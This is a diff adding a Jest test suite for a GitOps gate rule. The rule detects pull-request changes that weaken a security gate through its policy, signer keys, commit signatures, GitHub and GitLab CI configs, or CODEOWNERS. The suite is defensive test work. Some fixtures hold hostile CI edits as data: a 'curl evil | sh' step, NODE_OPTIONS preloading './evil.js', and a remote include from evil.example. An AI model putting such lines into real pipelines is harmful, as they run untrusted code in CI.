@@ -1,0 +1,601 @@
+import { createHash, generateKeyPairSync } from 'node:crypto';
+import { describe, expect, test } from '@jest/globals';
+import fc from 'fast-check';
+import { emptyRange } from '../../src/git/range.ts';
+import type { FileSide, TouchedFile } from '../../src/kube/touched-file.ts';
+import { defaultPolicy } from '../../src/policy/defaults.ts';
+import { isGuard } from '../../src/rules/gate-changed/guards.ts';
+import { gateChanged } from '../../src/rules/gate-changed.ts';
+import type { Evidence } from '../../src/rules/rule.ts';
+import type { SignatureState, VerifiedCommit } from '../../src/signature/signature.ts';
+
+type Files = Readonly<Record<string, string | { link: string }>>;
+
+const policy = '.gitops-gate/policy.yaml';
+const allowed = '.gitops-gate/allowed_signers';
+const workflow = '.github/workflows/gate.yml';
+
+function side(content: string | { link: string } | undefined): FileSide | undefined {
+  if (content === undefined) return undefined;
+  const isLink = typeof content !== 'string';
+  const bytes = Buffer.from(isLink ? content.link : content);
+  const id = createHash('sha1').update(`blob ${bytes.length}\0`).update(bytes).digest('hex');
+  return {
+    id,
+    mode: isLink ? '120000' : '100644',
+    size: bytes.length,
+    structure: isLink ? 'symlink' : 'text',
+    text: isLink ? '' : bytes.toString(),
+    bytes: isLink ? Buffer.alloc(0) : bytes,
+    documents: [],
+    resources: [],
+    unreadable: [],
+  };
+}
+
+function evidence(
+  before: Files,
+  after: Files,
+  over: Partial<Evidence['change']> = {},
+  rest: Partial<Evidence> = {},
+): Evidence {
+  const touched = [...new Set([...Object.keys(before), ...Object.keys(after)])]
+    .sort()
+    .map(
+      (path): TouchedFile => ({
+        path,
+        scope: '',
+        before: side(before[path]),
+        after: side(after[path]),
+        movedFrom: undefined,
+      }),
+    )
+    .filter((file) => file.before?.id !== file.after?.id || file.before?.mode !== file.after?.mode);
+  const tree = (files: Files) =>
+    new Map(Object.entries(files).map(([path, content]) => [path, side(content) ?? { mode: '', id: '' }] as const));
+  const guards = (files: Files) =>
+    new Map(
+      Object.entries(files).flatMap(([path, c]) => (isGuard(path) ? [[path, Buffer.from(String(c))] as const] : [])),
+    );
+  return {
+    change: {
+      range: emptyRange('request'),
+      commits: [],
+      commitPaths: new Map(),
+      before: tree(before),
+      after: tree(after),
+      touched,
+      guards: { before: guards(before), after: guards(after) },
+      ...over,
+    },
+    policy: defaultPolicy,
+    trustsKeys: true,
+    now: 0,
+    digestKey: Buffer.alloc(32),
+    scopes: new Map(),
+    ruleIds: ['rbac-widened', 'plaintext-secret', 'gate-changed'],
+    ...rest,
+  };
+}
+
+function found(...given: Parameters<typeof evidence>): string[] {
+  return [...gateChanged.check(evidence(...given))].map(({ severity, message, position }) => {
+    const place = position ? `${position.file}:${position.line}` : '-';
+    return `${place} ${severity} ${message}`;
+  });
+}
+
+/** The severities that a change of the policy's text meets, worst first. */
+function severities(before: string, after: string): string[] {
+  return [...gateChanged.check(evidence({ [policy]: before }, { [policy]: after }))].map(
+    ({ severity = '' }) => severity,
+  );
+}
+
+function commit(sha: string, state: SignatureState, roles: readonly string[]): VerifiedCommit {
+  const person = { name: 'Ana', email: 'ana@example.org', time: 0 };
+  const signer = { name: 'Ana', emails: ['ana@example.org'], roles };
+  return {
+    sha,
+    kind: 'commit',
+    subject: 's',
+    author: person,
+    committer: person,
+    signature: { state, signer, accepted: state === 'good' },
+  };
+}
+
+function sshKey(): string {
+  const raw = generateKeyPairSync('ed25519').publicKey.export({ format: 'der', type: 'spki' }).subarray(-32);
+  const part = (bytes: Buffer) => Buffer.concat([Buffer.from([0, 0, 0, bytes.length]), bytes]);
+  return `ssh-ed25519 ${Buffer.concat([part(Buffer.from('ssh-ed25519')), part(raw)]).toString('base64')}`;
+}
+
+describe('the policy', () => {
+  test('says which key changes and where', () => {
+    const before = { [policy]: 'version: 1\nfailOn: high\n' };
+    expect(found(before, { [policy]: 'version: 1\n# quieter\nfailOn: never\n' })).toEqual([
+      `${policy}:3 high ${policy} weakens the gate: failOn goes from high to never`,
+    ]);
+  });
+
+  const ignore = (until: string, rest = 'object: Role/a/b') =>
+    `ignore:\n  - {rule: rbac-widened, ${rest}, reason: r, until: ${until}}\n`;
+  const signer = (rest: string) => `signatures:\n  signers:\n    ana@example.org: {${rest}}\n`;
+  const requires = (rest: string) => `signatures:\n  require:\n    - {${rest}}\n`;
+
+  test.each<[string, string, string]>([
+    ['a looser threshold', 'failOn: low\n', 'failOn: medium\n'],
+    ['no threshold of its own, which leaves it to an input', 'failOn: high\n', 'version: 1\n'],
+    ['a rule that is off', '', 'rules: {rbac-widened: off}\n'],
+    ['a rule of lower severity', 'rules: {rbac-widened: critical}\n', 'rules: {rbac-widened: high}\n'],
+    ['a rule of one severity for graded findings', '', 'rules: {rbac-widened: high}\n'],
+    ['a severity taken back', 'rules: {rbac-widened: critical}\n', ''],
+    ['the gate’s own rule off', '', 'rules: {gate-changed: off}\n'],
+    ['no identity asked for', '', 'signatures: {identity: none}\n'],
+    ['report on push', 'signatures: {onPush: block}\n', 'signatures: {onPush: report}\n'],
+    ['a signer', 'version: 1\n', signer('roles: [admin]')],
+    ['a role', signer('roles: [dev]'), signer('roles: [dev, admin]')],
+    ['an email', signer('emails: [a@b]'), signer('emails: [a@b, c@d]')],
+    ['emails left to the key', signer('emails: [a@b]'), signer('emails: []')],
+    ['a signer left to the key', signer('emails: [a@b]'), 'version: 1\n'],
+    ['a requirement gone', requires('paths: [p/**], roles: [admin]'), ''],
+    [
+      'a requirement for less',
+      requires('paths: [p/**, q/**], roles: [admin]'),
+      requires('paths: [p/**], roles: [admin]'),
+    ],
+    ['a requirement others meet', requires('paths: [p], roles: [admin]'), requires('paths: [p], roles: [admin, dev]')],
+    ['forge signatures', '', 'signatures: {forge: {accept: all}}\n'],
+    ['a bot', '', 'signatures: {forge: {bots: [bot@example.org]}}\n'],
+    ['a forge key', '', `signatures: {forge: {keys: [${'A'.repeat(40)}]}}\n`],
+    ['a gitsign identity', '', 'signatures: {identities: [{subject: a, issuer: "https://b"}]}\n'],
+    ['another scope', 'clusters: {prod: [p/**]}\n', 'clusters: {prod: [p/**, dev/**]}\n'],
+    ['a scope gone', 'clusters: {prod: [p/**]}\n', ''],
+    ['a declared role', '', 'rbac: {roles: [{kind: ClusterRole, name: a, rules: []}]}\n'],
+    ['a new ignore', '', ignore('2026-01-01')],
+    ['an ignore that ends later', ignore('2026-01-01'), ignore('2027-01-01')],
+    ['an ignore of something else', ignore('2026-01-01'), ignore('2026-01-01', 'object: Role/a/c')],
+    ['a root that need not be rendered', 'render: {require: [a]}\n', ''],
+    ['a smaller limit', '', 'limits: {bytes: 100}\n'],
+  ])('weakened by %s is high', (_, before, after) =>
+    expect(severities(before || '# x\n', after || '# y\n')).toContain('high'),
+  );
+
+  test.each<[string, string, string]>([
+    ['a stricter threshold', 'failOn: high\n', 'failOn: low\n'],
+    ['a stated threshold', '', 'failOn: high\n'],
+    ['a rule of the worst severity', '', 'rules: {rbac-widened: critical}\n'],
+    ['a rule that is on again', 'rules: {rbac-widened: off}\n', ''],
+    ['more identity', '', 'signatures: {identity: committer-and-author}\n'],
+    ['a role less', signer('roles: [dev, admin]'), signer('roles: [dev]')],
+    ['an email less', signer('emails: [a@b, c@d]'), signer('emails: [a@b]')],
+    ['a new requirement', '', requires('paths: [p/**], roles: [admin]')],
+    ['a requirement for more', requires('paths: [p], roles: [admin]'), requires('paths: [p, q], roles: [admin]')],
+    ['no forge signatures', '', 'signatures: {forge: {accept: none}}\n'],
+    ['an ignore gone', ignore('2026-01-01'), ''],
+    ['an ignore that ends earlier', ignore('2026-01-01'), ignore('2025-01-01')],
+    ['a root that must be rendered', '', 'render: {require: [a]}\n'],
+    ['a larger limit', '', 'limits: {bytes: 99999999}\n'],
+    ['another Kubernetes version', '', 'kubernetesVersion: "1.30"\n'],
+    ['a comment', '# a\nfailOn: high\n', '# b\nfailOn: high\n'],
+  ])('not weakened by %s is medium', (_, before, after) =>
+    expect(severities(before || '# x\n', after || '# y\n')).toEqual(['medium']),
+  );
+
+  test('that is removed loses what it demanded', () => {
+    expect(found({ [policy]: 'failOn: low\n' }, {})).toEqual([
+      `- high ${policy} weakens the gate: failOn goes from low to the default (high)`,
+    ]);
+  });
+
+  test.each<[string, Files[string]]>([
+    ['an unknown key', 'failon: low\n'],
+    ['an unknown rule', 'rules: {rbac-widend: low}\n'],
+    ['broken YAML', 'failOn: [\n'],
+    ['a link', { link: '../elsewhere.yaml' }],
+  ])('of a change is refused with %s, even an admin’s', (_, after) => {
+    const sha = 'a'.repeat(40);
+    const signed = { commits: [commit(sha, 'good', ['admin'])], commitPaths: new Map([[sha, [policy]]]) };
+    const lines = found({ [policy]: 'failOn: high\n' }, { [policy]: after }, signed);
+    expect(lines).toHaveLength(1);
+    expect(lines[0]).toMatch(/:[12] high .* breaks the gate: /);
+  });
+
+  test('that was broken is compared as the defaults, which held in its place', () => {
+    expect(found({ [policy]: 'failOn: [\n' }, { [policy]: 'failOn: never\n' })[0]).toContain('high');
+    expect(found({ [policy]: 'failOn: [\n' }, { [policy]: 'failOn: high\n' })[0]).toContain('medium');
+  });
+
+  test('of another folder may not be put in the place of the one that an input names', () => {
+    const rest = { policy: { ...defaultPolicy, folder: 'infra/gate' } };
+    const before = { 'infra/gate/policy.yaml': 'failOn: low\n' };
+    const lines = found(before, { ...before, [policy]: 'failOn: never\n' }, {}, rest);
+    expect(lines).toEqual([expect.stringContaining('high')]);
+    expect(lines[0]).toContain('takes the place of infra/gate/');
+  });
+});
+
+describe('while the base has no folder', () => {
+  test('adding it is reported, and does not block', () => {
+    const lines = found({}, { [policy]: 'failOn: never\n', [allowed]: `a@b ${sshKey()}\n` });
+    expect(lines).toEqual([
+      `${allowed}:1 low ${allowed} begins the gate: .gitops-gate/ is set up with allowed_signers, policy.yaml`,
+    ]);
+  });
+
+  test('adding a broken one is refused', () => {
+    expect(found({}, { [policy]: 'failon: never\n' })[0]).toContain('high');
+  });
+});
+
+describe('trusted keys', () => {
+  const [ana, bob] = [`ana@b ${sshKey()}\n`, `bob@b ${sshKey()}\n`];
+  const at = (...lines: string[]) => ({ [allowed]: lines.join('') });
+
+  test('a new one weakens, and stands on its line', () => {
+    expect(found(at(ana), at(ana, '# bob\n', bob))).toEqual([
+      expect.stringMatching(`^${allowed}:3 high .*for "bob@b"$`),
+    ]);
+  });
+
+  test('the first one of a base that trusts none does not weaken', () => {
+    expect(found(at('# nobody yet\n'), at(ana), {}, { trustsKeys: false })[0]).toContain('medium');
+  });
+
+  test.each<[string, Files, Files]>([
+    ['one gone', at(ana, bob), at(ana)],
+    ['another order and comments', at(ana, bob), at('# people\n', bob, ana)],
+    ['a shorter validity', at(ana), at(ana.replace(' ', ' valid-before="20300101Z" '))],
+    ['one more revoked', { '.gitops-gate/revoked': '# none\n' }, { '.gitops-gate/revoked': `${'A'.repeat(40)}\n` }],
+    ['a certificate that moves', { '.gitops-gate/keys/a.asc': 'x' }, { '.gitops-gate/keys/b.asc': 'x' }],
+    [
+      'a certificate gone',
+      { [allowed]: ana, '.gitops-gate/keys/a.asc': 'x', '.gitops-gate/keys/b.asc': 'y' },
+      { [allowed]: ana, '.gitops-gate/keys/b.asc': 'y' },
+    ],
+  ])('%s changes the gate', (_, before, after) => {
+    const lines = found(before, after);
+    expect(lines.length).toBeGreaterThan(0);
+    for (const line of lines) expect(line).toContain(' medium ');
+  });
+
+  test.each<[string, Files, Files]>([
+    ['other principals', at(ana), at(ana.replace('ana@b', '*'))],
+    ['a certificate authority', at(ana), at(ana.replace(' ', ' cert-authority '))],
+    ['a longer validity', at(ana.replace(' ', ' valid-before="20300101Z" ')), at(ana)],
+    ['a line that cannot be read', at(ana), at(ana, 'bob@b ssh-ed25519 xxxx\n')],
+    ['no key any more', at(ana), at('# nobody\n')],
+    ['the file removed', at(ana), {}],
+    ['a new certificate', { [allowed]: ana }, { [allowed]: ana, '.gitops-gate/keys/b.asc': 'x' }],
+    ['a changed certificate', { '.gitops-gate/keys/b.asc': 'x' }, { '.gitops-gate/keys/b.asc': 'y' }],
+    ['a new root', { [allowed]: ana }, { [allowed]: ana, '.gitops-gate/x509/r.pem': 'x' }],
+    ['the last certificate gone', { [allowed]: '# none\n', '.gitops-gate/keys/b.asc': 'x' }, { [allowed]: '# none\n' }],
+    ['a key no longer revoked', { '.gitops-gate/revoked': `${'A'.repeat(40)}\n` }, { '.gitops-gate/revoked': '' }],
+    ['revocations removed', { [allowed]: ana, '.gitops-gate/revoked': `${'A'.repeat(40)}\n` }, { [allowed]: ana }],
+    ['a link in place of a key', { [allowed]: ana }, { [allowed]: ana, '.gitops-gate/keys/b.asc': { link: '/etc/x' } }],
+  ])('%s weakens the gate', (_, before, after) => expect(found(before, after).join('\n')).toContain(' high '));
+});
+
+describe('a signature', () => {
+  const [first, second] = ['a'.repeat(40), 'b'.repeat(40)];
+  const change = (commits: VerifiedCommit[], paths: [string, string[]][]) =>
+    found({ [policy]: 'failOn: high\n' }, { [policy]: 'failOn: never\n' }, { commits, commitPaths: new Map(paths) });
+
+  test('of an admin on every commit that touches the file makes it pass', () => {
+    const others = commit(second, 'unsigned', []);
+    expect(
+      change(
+        [commit(first, 'good', ['admin']), others],
+        [
+          [first, [policy]],
+          [second, ['a.yaml']],
+        ],
+      ),
+    ).toEqual([]);
+  });
+
+  test.each<[string, VerifiedCommit[], [string, string[]][]]>([
+    ['of someone who is no admin', [commit(first, 'good', ['dev'])], [[first, [policy]]]],
+    ['of an admin that is not good', [commit(first, 'expired', ['admin'])], [[first, [policy]]]],
+    ['of the forge', [commit(first, 'forge-signed', ['admin'])], [[first, [policy]]]],
+    [
+      'of an admin on one of two commits',
+      [commit(first, 'good', ['admin']), commit(second, 'unsigned', [])],
+      [
+        [first, [policy]],
+        [second, [policy]],
+      ],
+    ],
+    ['on no commit that is known to touch it', [commit(first, 'good', ['admin'])], [[first, ['a.yaml']]]],
+    [
+      'beside a commit whose paths are not known',
+      [commit(first, 'good', ['admin']), commit(second, 'unsigned', [])],
+      [[first, [policy]]],
+    ],
+    ['on a tag', [{ ...commit(first, 'good', ['admin']), kind: 'tag' }], [[first, [policy]]]],
+    ['on nothing', [], []],
+  ])('%s does not', (_, commits, paths) => expect(change(commits, paths)[0]).toContain(' high '));
+});
+
+describe('a GitHub workflow that runs the gate', () => {
+  const gate = `name: gate
+on:
+  pull_request_target:
+    types: [opened, synchronize, reopened, edited]
+  merge_group:
+permissions: { contents: read }
+jobs:
+  gate:
+    name: GitOps gate
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - uses: acme/gitops-gate@v1.2.0
+        with:
+          fail-on: high
+      - run: echo done
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`;
+  const edit = (from: string, to: string) => {
+    expect(gate).toContain(from);
+    return found({ [workflow]: gate }, { [workflow]: gate.replace(from, to) });
+  };
+
+  test.each<[string, string, string, number]>([
+    ['an event', '  merge_group:\n', '', 2],
+    ['a type of event', ', edited]', ']', 4],
+    ['a path filter', 'edited]\n', 'edited]\n    paths: [docs/**]\n', 5],
+    ['the author’s own trigger', 'pull_request_target', 'pull_request', 2],
+    [
+      'a condition',
+      '    runs-on: ubuntu-latest\n    steps:\n      - uses: a',
+      '    if: false\n    runs-on: ubuntu-latest\n    steps:\n      - uses: a',
+      10,
+    ],
+    ['another check name', 'GitOps gate', 'GitOps Gate', 9],
+    [
+      'another runner',
+      '    runs-on: ubuntu-latest\n    steps:\n      - uses: a',
+      '    runs-on: self-hosted\n    steps:\n      - uses: a',
+      10,
+    ],
+    [
+      'a step before it',
+      '      - uses: actions/checkout@v4\n',
+      '      - uses: actions/checkout@v4\n      - run: curl evil | sh\n',
+      11,
+    ],
+    ['a commit id, which can be a fork’s', 'gitops-gate@v1.2.0', `gitops-gate@${'a'.repeat(40)}`, 13],
+    ['another repository', 'acme/gitops-gate@', 'evil/gitops-gate@', 13],
+    ['an earlier release', '@v1.2.0', '@v1.1.9', 13],
+    ['a looser input', 'fail-on: high', 'fail-on: never', 15],
+    ['an input taken away', '          fail-on: high\n', '          base: HEAD\n', 15],
+    ['a forgiven failure', '        with:\n', '        continue-on-error: true\n        with:\n', 14],
+    ['a forgiven job', '    name: GitOps gate\n', '    name: GitOps gate\n    continue-on-error: true\n', 10],
+    ['a job to wait for', '    name: GitOps gate\n', '    name: GitOps gate\n    needs: build\n', 10],
+    ['an environment', 'jobs:\n', 'env: { NODE_OPTIONS: --require=./evil.js }\njobs:\n', 7],
+    ['no gate', '      - uses: acme/gitops-gate@v1.2.0\n        with:\n          fail-on: high\n', '', 8],
+    ['an impostor', '  build:\n', '  build:\n    name: GitOps gate\n', 17],
+  ])('is weakened by %s', (_, from, to, line) => {
+    const lines = edit(from, to);
+    expect(lines[0]).toMatch(new RegExp(`^${workflow}:${line} high `));
+  });
+
+  test.each<[string, string, string]>([
+    ['another job', '      - run: make\n', '      - run: make all\n'],
+    ['a step after it', '- run: echo done', '- run: echo finished'],
+    ['a later release', '@v1.2.0', '@v1.10.0'],
+    ['a later major release', '@v1.2.0', '@v2'],
+    ['a stricter input', 'fail-on: high', 'fail-on: low'],
+    ['an input that only shows', 'fail-on: high', 'fail-on: high\n          comment: summary'],
+    ['an event more', '  merge_group:\n', '  merge_group:\n  push:\n'],
+    ['fewer permissions', 'contents: read', 'contents: none'],
+    ['a comment', 'name: gate\n', '# hello\nname: gate\n'],
+  ])('is not weakened by %s', (_, from, to) => expect(edit(from, to)).toEqual([expect.stringContaining(' medium ')]));
+
+  test('is weakened where it is removed, renamed to no workflow, or cannot be read', () => {
+    expect(found({ [workflow]: gate }, {})[0]).toContain('high');
+    expect(found({ [workflow]: gate }, { 'old/gate.yml': gate })[0]).toContain('high');
+    expect(found({ [workflow]: gate }, { '.github/workflows/g.yml': gate })[0]).toContain('medium');
+    expect(found({ [workflow]: gate }, { [workflow]: `${gate}\t- [` })[0]).toContain('high');
+    expect(found({ [workflow]: gate }, { [workflow]: { link: 'x' } })[0]).toContain('high');
+  });
+
+  test('is followed through a local workflow and a local action', () => {
+    const caller = 'on: pull_request_target\njobs:\n  call: { uses: ./.github/workflows/reusable.yml }\n';
+    const reusable = 'on: workflow_call\njobs:\n  gate:\n    steps:\n      - uses: ./.github/actions/guard\n';
+    const action = 'runs:\n  using: composite\n  steps:\n    - uses: acme/gitops-gate@v1\n';
+    const before = {
+      '.github/workflows/ci.yml': caller,
+      '.github/workflows/reusable.yml': reusable,
+      '.github/actions/guard/action.yml': action,
+    };
+    for (const path of Object.keys(before) as (keyof typeof before)[]) {
+      const after = { ...before, [path]: before[path].replace(/(\.\/\.github\/|acme)/, './evil/') };
+      expect(found(before, after)).toEqual([expect.stringMatching(`^${path.replaceAll('.', '\\.')}:\\d+ high`)]);
+    }
+  });
+
+  test('has a check whose name no other workflow may take', () => {
+    const other = 'on: push\njobs:\n  fake:\n    name: GitOps gate\n    steps: [{ run: "true" }]\n';
+    const fake = '.github/workflows/fake.yml';
+    expect(found({ [workflow]: gate }, { [workflow]: gate, [fake]: other })).toEqual([
+      `${fake}:3 high ${fake} weakens the gate: a job of another workflow takes the name of the gate’s check`,
+    ]);
+    const innocent = other.replace('GitOps gate', 'something else');
+    expect(found({ [workflow]: gate }, { [workflow]: gate, [fake]: innocent })).toEqual([]);
+  });
+
+  test('is not one that only has a workflow’s shape', () => {
+    const build = 'on: push\njobs:\n  build:\n    steps: [{ run: make }]\n';
+    expect(found({ '.github/workflows/b.yml': build }, { '.github/workflows/b.yml': `${build}# x\n` })).toEqual([]);
+    expect(found({ 'docs/gate.yml': gate }, {})).toEqual([]);
+  });
+
+  test('is not weakened by beginning to run it', () => expect(found({}, { [workflow]: gate })).toEqual([]));
+});
+
+describe('a GitLab pipeline that runs the gate', () => {
+  const file = '.gitlab-ci.yml';
+  const component = `stages: [test]
+include:
+  - component: $CI_SERVER_FQDN/acme/gitops-gate/gitops-gate@1.2.0
+    inputs:
+      fail-on: high
+  - local: ci/build.yml
+variables:
+  COLOUR: blue
+build:
+  script: [make]
+`;
+  const edit = (from: string, to: string) => {
+    expect(component).toContain(from);
+    return found({ [file]: component }, { [file]: component.replace(from, to) });
+  };
+
+  test.each<[string, string, string]>([
+    [
+      'no include',
+      /* the whole */ component.slice(component.indexOf('  - component'), component.indexOf('  - local')),
+      '',
+    ],
+    ['a looser input', 'fail-on: high', 'fail-on: never'],
+    ['rules that never hold', 'fail-on: high', 'fail-on: high\n      rules: [{ when: never }]'],
+    ['another project', 'acme/gitops-gate', 'evil/gitops-gate'],
+    ['an earlier release', '@1.2.0', '@1.1.0'],
+    ['a branch', '@1.2.0', '@main'],
+    ['a job of the gate’s name', 'build:\n', 'gitops-gate:\n  allow_failure: true\nbuild:\n'],
+    [
+      'something from elsewhere',
+      '  - local: ci/build.yml\n',
+      '  - local: ci/build.yml\n  - remote: https://evil.example/x.yml\n',
+    ],
+    ['another project’s file', '  - local: ci/build.yml\n', '  - { project: evil/x, file: y.yml }\n'],
+    ['a workflow that never starts', 'stages: [test]\n', 'workflow: { rules: [{ when: never }] }\n'],
+    ['a telling variable', 'COLOUR: blue', 'NODE_OPTIONS: --require=./evil.js'],
+    ['commands before every job', 'stages: [test]\n', 'default: { before_script: [evil] }\n'],
+  ])('is weakened by %s', (_, from, to) => expect(edit(from, to).join('\n')).toContain(' high '));
+
+  test.each<[string, string, string]>([
+    ['another job', 'make', 'make all'],
+    ['a later release', '@1.2.0', '@1.3.0'],
+    ['a stricter input', 'fail-on: high', 'fail-on: low'],
+    ['another variable', 'blue', 'red'],
+    ['another local file', 'ci/build.yml', 'ci/other.yml'],
+  ])('is not weakened by %s', (_, from, to) => expect(edit(from, to)).toEqual([expect.stringContaining(' medium ')]));
+
+  test('may run it in a job of its own', () => {
+    const own = 'gate:\n  script: [gitops-gate check --ci gitlab]\n  rules: [{ if: $CI_MERGE_REQUEST_IID }]\n';
+    expect(found({ [file]: own }, { [file]: `${own}  allow_failure: true\n` })).toEqual([
+      `${file}:4 high ${file} weakens the gate: allow_failure of what runs the gate changes`,
+    ]);
+    expect(found({ [file]: own }, { [file]: 'gate:\n  script: ["true"]\n' }).join('\n')).toContain('high');
+  });
+
+  test('may not be overridden by a second file', () => {
+    const second = 'gitops-gate:\n  script: ["true"]\n';
+    expect(found({ [file]: component }, { [file]: component, 'ci/build.yml': second })[0]).toContain(' high ');
+  });
+});
+
+describe('code owners of the gate', () => {
+  const base = { [policy]: 'failOn: high\n', [workflow]: 'on: push\njobs: {g: {steps: [{uses: a/gitops-gate@v1}]}}\n' };
+  const owners = (text: string, path = '.github/CODEOWNERS') => ({ ...base, [path]: text });
+
+  test.each<[string, Files, Files]>([
+    ['removed', owners('/.gitops-gate/ @sec\n'), base],
+    ['replaced', owners('/.gitops-gate/ @sec\n'), owners('/.gitops-gate/ @dev\n')],
+    ['joined', owners('/.gitops-gate/ @sec\n'), owners('/.gitops-gate/ @sec @dev\n')],
+    ['overruled by a later line', owners('/.gitops-gate/ @sec\n'), owners('/.gitops-gate/ @sec\n* @dev\n')],
+    ['of the workflow', owners('.github/ @sec\n'), owners('.github/ @sec\n.github/workflows/gate.yml\n')],
+    ['of CODEOWNERS itself', owners('* @sec\n'), owners('* @sec\nCODEOWNERS @dev\n')],
+    [
+      'shadowed by a file that goes first',
+      owners('* @sec\n', 'CODEOWNERS'),
+      { ...owners('* @sec\n', 'CODEOWNERS'), '.github/CODEOWNERS': '* @dev\n' },
+    ],
+    [
+      'of a GitLab section',
+      owners('[Sec] @sec\n.gitops-gate/\n', '.gitlab/CODEOWNERS'),
+      owners('[Sec] @dev\n.gitops-gate/\n', '.gitlab/CODEOWNERS'),
+    ],
+  ])('%s weakens', (_, before, after) => expect(found(before, after).join('\n')).toContain(' high '));
+
+  test.each<[string, string, string]>([
+    ['others’ paths', '* @sec\n/apps/ @a\n', '* @sec\n/apps/ @b\n'],
+    ['comments', '* @sec\n', '# who\n* @sec # all\n'],
+    ['the same said otherwise', '* @sec\n', '* @sec\n/.gitops-gate/** @sec\n'],
+  ])('are untouched by %s', (_, before, after) => expect(found(owners(before), owners(after))).toEqual([]));
+
+  test('that are named for the first time change it', () => {
+    expect(found(base, owners('* @sec\n'))[0]).toContain(' medium ');
+  });
+
+  test('that were not read are not taken for the same', () => {
+    const over = { guards: { before: new Map(), after: new Map([['.github/CODEOWNERS', Buffer.from('* @dev')]]) } };
+    expect(
+      found(
+        owners('* @sec\n', 'CODEOWNERS'),
+        { ...owners('* @sec\n', 'CODEOWNERS'), '.github/CODEOWNERS': '* @dev' },
+        over,
+      )[0],
+    ).toContain(' high ');
+  });
+});
+
+describe('anything else', () => {
+  test('is silent', () => {
+    expect(
+      found({ 'a.yaml': 'a' }, { 'a.yaml': 'b', '.gitops-gate-2/policy.yaml': 'x', 'x/.gitops-gate/policy.yaml': 'x' }),
+    ).toEqual([]);
+    expect(
+      found(
+        { [policy]: 'failOn: high\n', '.gitops-gate/keys/README.md': 'a' },
+        { [policy]: 'failOn: high\n', '.gitops-gate/keys/README.md': 'b' },
+      ),
+    ).toEqual([]);
+  });
+
+  test('in an audit is silent: nothing changes there', () => {
+    expect(found({}, { [policy]: 'failOn: never\n' }, { range: emptyRange('audit') })).toEqual([]);
+  });
+
+  test('that is hostile never throws, and a changed policy never goes unsaid', () => {
+    const path = fc.constantFrom(
+      policy,
+      allowed,
+      '.gitops-gate/revoked',
+      workflow,
+      '.gitlab-ci.yml',
+      '.github/CODEOWNERS',
+    );
+    const lines = [
+      'on: push',
+      'jobs:',
+      '  a:',
+      '    steps: [{uses: x/gitops-gate@v1}]',
+      'failOn: low',
+      'include: [x]',
+      '* @a',
+      '[',
+      'ignore:',
+    ];
+    const text = fc.oneof(
+      fc.array(fc.constantFrom(...lines), { maxLength: 8 }).map((l) => l.join('\n')),
+      fc.string({ unit: 'binary' }),
+    );
+    const files = fc.dictionary(path, text, { maxKeys: 4 });
+    fc.assert(
+      fc.property(files, files, (before, after) => {
+        const lines = found(before, after);
+        const isTouched = (before[policy] ?? '') !== (after[policy] ?? '') && policy in after;
+        return !isTouched || lines.some((line) => line.includes(policy));
+      }),
+      { numRuns: 500 },
+    );
+  });
+});
